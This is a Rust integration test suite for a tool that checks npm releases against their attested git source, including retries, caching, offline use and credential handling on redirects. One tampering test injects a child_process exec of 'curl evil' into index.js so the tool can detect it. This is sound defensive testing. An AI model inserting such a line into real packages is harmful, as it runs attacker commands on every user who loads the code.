//! `provdiff check NAME@VERSION` end to end: the real binary against a real npm registry and a
//! real git server, both on 127.0.0.1, started and stopped by each test. The registry is found the
//! way npm finds it (`npm_config_registry`); the provenance names a `https://github.com/…`
//! repository, which `--git-mirror` points at the test's git server.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use provdiff_core::Sha512;
use provdiff_npm::PackedFile;
use provdiff_testkit::{
    Fault, GitProtocol, GitServer, NPM_PUBLISH, ProvenanceSpec, RepoFile, SLSA_V1, SigstoreInstance, TestRegistry,
    TestVersion,
};
use support::{Run, publish_from, replace, widget_files};

const OWNER: &str = "https://github.com/provdiff-tests/";

/// A registry, a git server, a signing instance and a scratch directory (home, cache, trust).
struct World {
    dir: tempfile::TempDir,
    registry: TestRegistry,
    git: GitServer,
    instance: SigstoreInstance,
}

/// What [`World::release`] published.
struct Release {
    name: String,
    version: String,
    commit: String,
    tarball: Vec<u8>,
}

impl World {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let instance = SigstoreInstance::new();
        fs_err::write(dir.path().join("trusted_root.json"), instance.trusted_root_json()).unwrap();
        fs_err::write(dir.path().join("npm_keys.json"), instance.npm_keys_json()).unwrap();
        fs_err::create_dir(dir.path().join("home")).unwrap();
        Self { dir, registry: TestRegistry::start(), git: GitServer::start(GitProtocol::Http), instance }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// Commits `files` to repository `repo` on the git server, packs `package_dir` (altered by
    /// `alter`) and publishes it with signed provenance, a publish attestation and a registry
    /// signature.
    fn release(
        &self,
        repo: &str,
        files: &[RepoFile],
        package_dir: &str,
        alter: impl FnOnce(&mut Vec<PackedFile>),
    ) -> Release {
        let served = if self.git.repo_path(repo).exists() {
            provdiff_testkit::TestRepo::open(&self.git.repo_path(repo))
        } else {
            self.git.create_repo(repo)
        };
        let commit = served.commit(files, "release");
        let (tarball, name, version) = publish_from(&self.git.repo_path(repo), &commit, package_dir, alter);
        let release = Release { name, version, commit, tarball };
        let mut published = TestVersion::new(&release.name, &release.version, release.tarball.clone());
        published.attestations = Some(self.attestations(&release, &format!("{OWNER}{repo}")));
        published.signatures =
            vec![self.instance.sign_registry_signature(&release.name, &release.version, &published.integrity())];
        self.registry.publish(published);
        release
    }

    fn attestations(&self, release: &Release, repository: &str) -> String {
        let sha512 = Sha512::digest(&release.tarball);
        let spec = ProvenanceSpec::new(&release.name, &release.version, sha512, repository, &release.commit);
        let provenance = self.instance.sign_provenance(&spec);
        let publish = self.instance.sign_publish(&release.name, &release.version, &sha512, spec.signed_at);
        SigstoreInstance::attestations_response(&[(SLSA_V1, &provenance), (NPM_PUBLISH, &publish)])
    }

    /// `provdiff check SPEC --registry URL --json`.
    fn check(&self, spec: &str, extra: &[&str]) -> Run {
        let mirror = format!("{OWNER}={}", self.git.base_url());
        let registry = self.registry.url();
        let mut args = vec![
            "check",
            spec,
            "--json",
            "--registry",
            &registry,
            "--cache-dir",
            "cache",
            "--git-mirror",
            &mirror,
            "--trusted-root",
            "trusted_root.json",
            "--npm-keys",
            "npm_keys.json",
        ];
        args.extend_from_slice(extra);
        let run = run_isolated(self.dir.path(), None, &args);
        support::assert_matches_schema(&run, "report.schema.json");
        run
    }
}

/// Runs the binary with a clean environment: its own home, no proxies, no progress output, and
/// `npm_config_registry` when given.
fn run_isolated(dir: &Path, npm_config_registry: Option<&str>, args: &[&str]) -> Run {
    let mut command = Command::new(env!("CARGO_BIN_EXE_provdiff"));
    command.args(args).current_dir(dir).env_clear();
    for variable in ["PATH", "SYSTEMROOT", "TMPDIR"] {
        if let Some(value) = std::env::var_os(variable) {
            command.env(variable, value);
        }
    }
    command.env("HOME", dir.join("home")).env("GIT_CONFIG_NOSYSTEM", "1").env("PROVDIFF_NO_PROGRESS", "1");
    if let Some(registry) = npm_config_registry {
        command.env("npm_config_registry", registry);
    }
    let output = command.output().unwrap();
    Run {
        code: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    }
}

/// Files under the cache whose names say they were never finished.
fn unfinished_cache_files(cache: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![cache.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.starts_with(".tmp") || name.starts_with(".init-") {
                found.push(entry.path());
            } else if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
                stack.push(entry.path());
            }
        }
    }
    found
}

fn tarball_path(release: &Release) -> String {
    TestVersion::new(&release.name, &release.version, Vec::new()).tarball_path()
}

#[test]
fn a_faithful_release_is_identical_and_a_second_check_uses_only_the_cache() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    let spec = format!("{}@{}", release.name, release.version);

    let run = world.check(&spec, &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["verdict"], "identical", "{}", run.stdout);
    assert_eq!(report["source"]["commit"], release.commit.as_str());
    assert_eq!(report["source"]["fetch"]["url"], format!("{OWNER}widget"));
    assert_ne!(report["source"]["fetch"]["strategy"], "cached");
    assert_eq!(report["registry"]["signatures"]["outcome"], "verified", "{}", run.stdout);
    assert_eq!(report["registry"]["origins"]["tarball"], "network");
    assert!(world.git.bytes_sent() > 0);

    // Warm: nothing is downloaded again, from either server.
    let tarball_requests = world.registry.requests_to(&tarball_path(&release)).len();
    let git_connections = world.git.connections();
    let warm = world.check(&spec, &[]);
    assert_eq!(warm.code, 0, "{}\n{}", warm.stdout, warm.stderr);
    assert_eq!(warm.json()["verdict"], "identical");
    assert_eq!(warm.json()["source"]["fetch"]["strategy"], "cached");
    assert_eq!(warm.json()["registry"]["origins"]["tarball"], "cache");
    assert_eq!(warm.json()["registry"]["origins"]["attestations"], "cache", "verified, so kept");
    assert_eq!(world.registry.requests_to(&tarball_path(&release)).len(), tarball_requests);
    assert_eq!(world.git.connections(), git_connections);

    // Offline, with both servers gone, the cache alone decides.
    let World { dir, registry, mut git, .. } = world;
    git.stop();
    let registry_url = registry.url();
    drop(registry);
    let offline = run_isolated(
        dir.path(),
        None,
        &[
            "check",
            &spec,
            "--json",
            "--offline",
            "--registry",
            &registry_url,
            "--cache-dir",
            "cache",
            "--git-mirror",
            &format!("{OWNER}=http://127.0.0.1:9/"),
            "--trusted-root",
            "trusted_root.json",
            "--npm-keys",
            "npm_keys.json",
        ],
    );
    assert_eq!(offline.code, 0, "{}\n{}", offline.stdout, offline.stderr);
    assert_eq!(offline.json()["verdict"], "identical");
}

#[test]
fn the_npm_version_in_the_registry_metadata_is_tried_first_and_reported() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    let spec = format!("{}@{}", release.name, release.version);
    let run = world.check(&spec, &[]);
    assert_eq!(run.json()["comparison"]["npm_rules_source"], "inferred", "{}", run.stdout);
    assert!(run.json()["registry"].get("npm_version").is_none());

    // Only the full document carries `_npmVersion`; this one makes the client read it.
    let mut version = TestVersion::new(&release.name, &release.version, release.tarball.clone());
    version.attestations = Some(world.attestations(&release, &format!("{OWNER}widget")));
    version.npm_version = Some("10.9.8".to_string());
    version.abbreviated_without_dist = true;
    world.registry.publish(version);
    fs_err::remove_dir_all(world.path("cache")).unwrap();
    let run = world.check(&spec, &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["verdict"], "identical");
    assert_eq!(report["registry"]["npm_version"], "10.9.8");
    assert_eq!(report["comparison"]["npm_rules_source"], "registry", "{}", run.stdout);
    assert_eq!(report["comparison"]["npm_rules"], "npm-10.9.6", "{}", run.stdout);
}

#[test]
fn attestations_without_the_publish_attestation_are_asked_for_again() {
    // A mirror's partial copy: the provenance alone. It verifies, but is not kept, so a later
    // run does not take it for the registry's whole answer.
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    let sha512 = Sha512::digest(&release.tarball);
    let spec = ProvenanceSpec::new(&release.name, &release.version, sha512, &format!("{OWNER}widget"), &release.commit);
    let provenance = world.instance.sign_provenance(&spec);
    let mut version = TestVersion::new(&release.name, &release.version, release.tarball.clone());
    version.attestations = Some(SigstoreInstance::attestations_response(&[(SLSA_V1, &provenance)]));
    let attestations_path = version.attestations_path();
    world.registry.publish(version);
    let check = format!("{}@{}", release.name, release.version);
    for run in 1..=2 {
        let result = world.check(&check, &[]);
        assert_eq!(result.code, 0, "{}\n{}", result.stdout, result.stderr);
        assert!(result.codes().contains(&"publish-not-checked".to_string()), "{}", result.stdout);
        assert_eq!(world.registry.requests_to(&attestations_path).len(), run, "run {run} asked the registry");
    }
}

#[test]
fn a_tampered_release_is_a_mismatch_naming_the_file() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |files| {
        replace(files, "index.js", |content| {
            content.extend_from_slice(b"require('child_process').exec('curl evil');\n")
        });
    });
    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["verdict"], "mismatch");
    let finding = &report["findings"][0];
    assert_eq!(finding["code"], "content-differs", "{}", run.stdout);
    assert_eq!(finding["path"], "index.js");
    assert!(finding["diff"].as_str().unwrap().contains("curl evil"));
}

#[test]
fn a_package_without_attestations_is_unverified_and_nothing_is_fetched_from_git() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    let mut bare = TestVersion::new(&release.name, &release.version, release.tarball.clone());
    bare.attestations = None;
    world.registry.publish(bare);
    world.git.reset_counters();

    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["verdict"], "unverified");
    let missing = run.codes().iter().filter(|code| *code == "provenance-missing").count();
    assert_eq!(missing, 1, "one finding says the registry has none:\n{}", run.stdout);
    assert_eq!(report["registry"]["signatures"]["outcome"], "absent");
    assert!(report["comparison"].is_null());
    assert_eq!(world.git.connections(), 0);
}

#[test]
fn attestations_that_were_not_accepted_are_asked_for_again() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    let spec = format!("{}@{}", release.name, release.version);
    let path = TestVersion::new(&release.name, &release.version, Vec::new()).attestations_path();
    // First, the registry answers with no attestations.
    world.registry.serve(&path, provdiff_testkit::Resource::json(r#"{"attestations":[]}"#));
    let run = world.check(&spec, &[]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("`attestations` is empty"), "{}", run.stderr);

    // Then the real ones: the next check asks the registry again instead of reading the cache.
    let real = world.attestations(&release, &format!("{OWNER}widget"));
    world.registry.serve(&path, provdiff_testkit::Resource::json(&real));
    let run = world.check(&spec, &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(run.json()["verdict"], "identical");
    assert_eq!(run.json()["registry"]["origins"]["attestations"], "network");
    assert_eq!(world.registry.requests_to(&path).len(), 2);
}

#[test]
fn a_scoped_package_in_a_monorepo_is_found_by_its_workspace() {
    let world = World::new();
    let files = vec![
        RepoFile::new("package.json", r#"{"name":"monorepo","private":true,"workspaces":["packages/*"]}"#),
        RepoFile::new(".gitignore", "node_modules\n*.log\n"),
        RepoFile::new(
            "packages/gadget/package.json",
            "{\n  \"name\": \"@acme/gadget\",\n  \"version\": \"0.4.0\",\n  \"main\": \"index.js\",\n  \"license\": \"MIT\"\n}\n",
        ),
        RepoFile::new("packages/gadget/index.js", "module.exports = 'gadget';\n"),
        RepoFile::new("packages/gadget/debug.log", "ignored by the root's .gitignore\n"),
        // A copy of the package name in a fixture: not a workspace, not the package.
        RepoFile::new("test/fixtures/gadget/package.json", r#"{"name":"@acme/gadget","version":"0.0.0"}"#),
        RepoFile::new("packages/other/package.json", r#"{"name":"@acme/other","version":"1.0.0"}"#),
    ];
    let release = world.release("monorepo", &files, "packages/gadget", |_| {});
    assert_eq!(release.name, "@acme/gadget");

    let run = world.check("@acme/gadget@0.4.0", &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["verdict"], "identical", "{}", run.stdout);
    assert_eq!(report["source"]["package_dir"], "packages/gadget");
    assert_eq!(report["source"]["workspace_root"], "");
    // The scoped packument is requested with its `/` encoded, as npm does.
    assert!(!world.registry.requests_to("/@acme%2fgadget").is_empty());
}

#[test]
fn registry_errors_are_retried_then_the_check_goes_on() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    let packument = TestVersion::new(&release.name, &release.version, Vec::new()).packument_path();
    world.registry.fault(&packument, Fault::Status(500), Some(2));
    world.registry.fault(&tarball_path(&release), Fault::Status(503), Some(1));

    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(run.json()["verdict"], "identical");
    assert_eq!(world.registry.requests_to(&packument).len(), 3);
    assert_eq!(world.registry.requests_to(&tarball_path(&release)).len(), 2);
}

/// No verdict is printed for an operational error: with `--json`, stdout holds the error
/// document instead, with the error's code and the message stderr has.
fn assert_operational_error(run: &Run, code: &str) {
    support::assert_matches_schema(run, "error.schema.json");
    let document = run.json();
    assert!(document.get("verdict").is_none(), "{document:#}");
    assert_eq!(document["error"]["code"], code, "{document:#}");
    assert!(run.stderr.contains(document["error"]["message"].as_str().unwrap()), "{}", run.stderr);
}

#[test]
fn a_registry_that_never_answers_is_an_error_after_the_timeout() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    world.registry.fault(&tarball_path(&release), Fault::Hang, None);

    let run = world.check(&format!("{}@{}", release.name, release.version), &["--timeout", "1"]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert_operational_error(&run, "registry");
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    assert!(run.stderr.contains(&tarball_path(&release)), "{}", run.stderr);
    assert!(unfinished_cache_files(&world.path("cache")).is_empty());
}

#[test]
fn a_truncated_tarball_is_an_error_and_leaves_nothing_in_the_cache() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    world.registry.fault(&tarball_path(&release), Fault::Truncate { keep: 100 }, None);

    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    assert!(unfinished_cache_files(&world.path("cache")).is_empty());

    // Once the registry serves it whole, the check succeeds: nothing partial was kept.
    world.registry.clear_faults(&tarball_path(&release));
    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
}

#[test]
fn a_tarball_that_does_not_match_dist_integrity_is_an_error_not_a_verdict() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    // Serve other bytes at the tarball's URL: the packument's integrity no longer holds.
    let mut swapped = release.tarball.clone();
    let last = swapped.len() - 1;
    swapped[last] ^= 0xff;
    world
        .registry
        .serve(&tarball_path(&release), provdiff_testkit::Resource::new(200, "application/octet-stream", swapped));

    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert_operational_error(&run, "registry");
    assert!(run.stderr.contains("integrity"), "{}", run.stderr);
    let tarballs = world.path("cache/registry");
    assert!(unfinished_cache_files(&tarballs).is_empty());
}

#[test]
fn credentials_are_not_sent_to_another_host_on_redirect() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    let elsewhere = TestRegistry::start();
    elsewhere.serve(
        &tarball_path(&release),
        provdiff_testkit::Resource::new(200, "application/octet-stream", release.tarball.clone()),
    );
    world.registry.fault(
        &tarball_path(&release),
        Fault::Redirect(format!("{}{}", elsewhere.url().trim_end_matches('/'), tarball_path(&release))),
        None,
    );
    fs_err::write(world.path("home/.npmrc"), format!("{}:_authToken=s3cret-token\n", world.registry.nerf_dart()))
        .unwrap();

    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let to_registry = world.registry.requests_to(&tarball_path(&release));
    assert_eq!(to_registry[0].header("authorization"), Some("Bearer s3cret-token"));
    let redirected = elsewhere.requests_to(&tarball_path(&release));
    assert_eq!(redirected.len(), 1);
    assert_eq!(redirected[0].header("authorization"), None);
    assert!(!run.stdout.contains("s3cret") && !run.stderr.contains("s3cret"));
}

#[test]
fn an_unreachable_git_server_is_an_error_not_a_missing_commit() {
    let mut world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    world.git.stop();

    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 2, "{}\n{}", run.stdout, run.stderr);
    assert_operational_error(&run, "git");
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    assert!(unfinished_cache_files(&world.path("cache")).is_empty());
}

#[test]
fn a_commit_gone_from_the_repository_is_source_unavailable() {
    let world = World::new();
    let first = world.git.create_repo("widget").commit(&widget_files(), "initial");
    let release = world.release("widget", &widget_files()[..5], "", |_| {});
    world.git.force_push_away("widget", "main", &first);

    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 4, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["verdict"], "source-unavailable");
    assert!(run.codes().contains(&"source-unavailable".to_string()), "{}", run.stdout);
    assert!(report["comparison"].is_null());
    assert!(report["attestation"]["provenance"].is_object(), "the attestations were still verified");
    assert!(unfinished_cache_files(&world.path("cache")).is_empty());
}

#[test]
fn a_repository_that_asks_for_credentials_says_so_and_names_the_mirror() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    world.git.require_basic_auth("reader", "s3cret");

    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 4, "{}\n{}", run.stdout, run.stderr);
    let report = run.json();
    assert_eq!(report["verdict"], "source-unavailable");
    let detail = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "source-unavailable")
        .and_then(|f| f["detail"].as_str())
        .unwrap()
        .to_string();
    let mirror = world.git.url("widget");
    assert!(detail.contains(&format!("the mirror {mirror}")), "{detail}");
    assert!(detail.contains(&format!("{OWNER}widget")), "{detail}");
    assert!(
        detail.contains(
            "asked for credentials: the repository is private, deleted, or needs credentials; none were accepted"
        ),
        "{detail}"
    );
    assert!(!detail.contains("is not in"), "nothing says the commit is missing: {detail}");
    assert!(!detail.contains("s3cret"));
}

/// npm's own configuration names the registry when `--registry` does not.
#[test]
fn the_human_report_says_where_everything_came_from() {
    let world = World::new();
    let release = world.release("widget", &widget_files(), "", |_| {});
    let mirror = format!("{OWNER}={}", world.git.base_url());
    let run = run_isolated(
        world.dir.path(),
        Some(&world.registry.url()),
        &[
            "check",
            &format!("{}@{}", release.name, release.version),
            "--cache-dir",
            "cache",
            "--git-mirror",
            &mirror,
            "--trusted-root",
            "trusted_root.json",
            "--npm-keys",
            "npm_keys.json",
        ],
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.starts_with("widget@1.2.3: identical ("), "{}", run.stdout);
    assert!(run.stdout.contains(&format!("registry    {}", world.registry.url())), "{}", run.stdout);
    assert!(run.stdout.contains("registry signature verified"), "{}", run.stdout);
    assert!(run.stdout.contains(&format!("fetched from {}widget", world.git.base_url())), "{}", run.stdout);
    assert!(run.stderr.is_empty(), "no progress output when stderr is not a terminal: {}", run.stderr);
    eprintln!("PEEK{}", run.stdout);
}

/// The size of a pack holding exactly the objects of one commit: the commit, its trees and blobs.
fn one_commit_pack_size(repo: &Path, commit: &str) -> u64 {
    let objects = provdiff_testkit::git(repo, &["rev-list", "--objects", "--max-count=1", commit]);
    let mut pack = Command::new("git")
        .args(["pack-objects", "--stdout", "-q"])
        .current_dir(repo)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let ids: String = objects.lines().filter_map(|line| line.split(' ').next()).flat_map(|id| [id, "\n"]).collect();
    std::io::Write::write_all(&mut pack.stdin.take().unwrap(), ids.as_bytes()).unwrap();
    pack.wait_with_output().unwrap().stdout.len() as u64
}

#[test]
fn the_cold_fetch_transfers_only_the_attested_commit() {
    let world = World::new();
    // A history whose every commit replaces an incompressible 64 KiB file: the whole history is
    // about 40 times the size of one commit.
    let served = world.git.create_repo("widget");
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let mut noise = || {
        (0..64 * 1024)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                seed as u8
            })
            .collect::<Vec<u8>>()
    };
    for round in 0..40 {
        let mut files = widget_files();
        files.push(RepoFile::new("assets/blob.bin", noise()));
        served.commit(&files, &format!("round {round}"));
    }
    let mut files = widget_files();
    files.push(RepoFile::new("assets/blob.bin", noise()));
    let release = world.release("widget", &files, "", |_| {});
    world.git.reset_counters();

    let run = world.check(&format!("{}@{}", release.name, release.version), &[]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let sent = world.git.bytes_sent();
    let one_commit = one_commit_pack_size(&world.git.repo_path("widget"), &release.commit);
    let history = provdiff_testkit::git(&world.git.repo_path("widget"), &["count-objects", "-v"]);
    eprintln!("git server sent {sent} bytes; one commit packs to {one_commit} bytes; repository: {history}");
    // The pack plus the protocol's own lines (ref advertisement, negotiation, sideband framing).
    assert!(sent <= one_commit + 8 * 1024, "sent {sent} bytes for a {one_commit}-byte commit");
    assert!(sent * 10 < 41 * 64 * 1024, "far less than the history");
    assert_eq!(run.json()["source"]["fetch"]["bytes"].as_u64().map(|bytes| bytes <= sent), Some(true));
}
